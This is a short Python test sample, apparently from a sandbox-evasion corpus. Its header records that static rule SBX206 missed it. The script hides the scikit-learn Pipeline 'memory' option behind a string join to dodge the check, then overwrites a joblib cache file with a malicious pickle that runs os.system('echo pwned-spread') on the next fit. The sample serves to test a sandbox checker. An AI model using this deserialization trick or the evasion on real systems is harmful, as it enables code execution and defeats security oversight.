# family: data_pickle
# reached: process, before process 1 closed the door (runner/sandbox/init.py, settle_packages)
# layer: static
# static: missed
# SBX206 judges set_params(**mapping), not a mapping spread into the Pipeline's constructor:
# Pipeline(steps, **opts) with a key joined at run time sets the joblib cache, and the cached
# pickle the program rewrites is loaded by the next fit.
import pathlib
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

X = np.arange(40.0).reshape(20, 2)
y = np.arange(20.0)
opts = {"".join(["mem", "ory"]): "fitcache"}
steps = [("scale", StandardScaler()), ("lr", LinearRegression())]
Pipeline(steps, **opts).fit(X, y)
for cached in pathlib.Path("fitcache").rglob("output.pkl"):
    cached.write_bytes(b"cposix\nsystem\n(S'echo pwned-spread'\ntR.")
try:
    Pipeline(steps, **opts).fit(X, y)
except TypeError as exc:
    print("fit failed:", type(exc).__name__)
